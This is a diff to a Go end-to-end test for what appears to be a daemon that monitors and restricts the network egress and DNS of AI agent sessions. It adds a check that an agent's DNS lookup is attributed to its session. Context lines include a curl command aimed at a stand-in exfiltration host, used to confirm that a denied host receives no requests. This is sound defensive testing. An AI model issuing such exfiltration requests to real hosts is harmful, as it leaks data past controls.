@@ -243,7 +243,7 @@ func TestDaemon(t *testing.T) {
 	needTransparent(t)
 	need(t, "curl", "sh")
 	w := newWorldAt(t, t.TempDir(), "127.0.34.2", "127.0.34.3")
-	d := w.startDaemon(t)
+	d := w.startDaemon(t, "--resolve", "named.daemon.test:127.0.34.2")
 	// The daemon's CA, outside its state, which is not the agents' to read.
 	daemonCA := filepath.Join(w.dir, "daemon-ca.pem")
 	if b, err := os.ReadFile(certs.CertFile(filepath.Join(w.dir, "state"))); err != nil {
@@ -278,6 +278,24 @@ curl -fsS --cacert "$1" --resolve "exfil.e2e.test:$3:127.0.34.3" "https://exfil.
 		})
 		if n := len(w.exfil.Requests()); n != 0 {
 			t.Errorf("the denied host received %d requests", n)
+		}
+	})
+
+	t.Run("the agent's DNS is its session's", func(t *testing.T) {
+		need(t, "python3")
+		// glibc's resolver: a connected UDP socket, whose port the kernel
+		// picks after connect4.
+		cmd := exec.Command(claude, "exec", "python3", "-c", `import socket; print(socket.gethostbyname("named.daemon.test"))`)
+		out, err := cmd.CombinedOutput()
+		if err != nil || strings.TrimSpace(string(out)) != "127.0.34.2" {
+			t.Fatalf("the agent's lookup: %v: %s", err, out)
+		}
+		s := w.waitSession(t, "claude", cmd.Process.Pid)
+		r := w.waitRecord(t, "the agent's query", func(r telemetry.Record) bool {
+			return r.Session == s.Session && r.Kind == event.KindDNS && r.Name == "named.daemon.test"
+		})
+		if r.Process == nil || !strings.HasPrefix(filepath.Base(r.Process.Exe), "python3") {
+			t.Errorf("the query's process: %+v", r.Process)
 		}
 	})
 
